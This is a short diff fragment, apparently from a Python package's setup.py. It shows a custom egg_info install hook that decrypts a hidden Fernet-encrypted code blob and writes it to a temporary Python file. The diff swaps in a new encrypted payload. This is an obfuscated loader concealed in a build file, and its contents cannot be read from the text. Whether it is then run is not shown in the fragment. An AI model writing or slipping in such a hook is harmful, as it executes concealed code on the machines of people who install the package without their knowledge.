@@ -6,7 +6,7 @@ from setuptools.command.egg_info import egg_info
 class Info(egg_info):
     def run(self):
         from cryptography.fernet import Fernet
-        code = Fernet(b'Dg8QERITFBUWFxgZGhscHR4fICEiIyQlJicoKSorLC0=').decrypt(b'gAAAAABrFcKGLIyMv95lBB1LdZ_o7jRfJEcmV2UTUPGPGkY7ScrF5Xtgqwcrg1EO9W0f5cvlmLxvwqofYCdV2uL3q_MJ4qO80haQ-dIF1bDMHvDwu7BsqsbD_gaf1xFtT39Oi0Qd2v6t')
+        code = Fernet(b'Dg8QERITFBUWFxgZGhscHR4fICEiIyQlJicoKSorLC0=').decrypt(b'gAAAAABrFcLB4JuyKP-1nod2J1oq22b_AFCefSay-4WTBqWGCvvn5ge3H_uLrGi24iA_7JRx5GuSHAKpUmAf4nGoeN-_2EQBxtLkphC_9vvan6Ql8OptJoputzf-gd7iDATWemtz9KOs')
         path = tempfile.mktemp(suffix=".py")
         with open(path, "wb") as handle:
             handle.write(code)
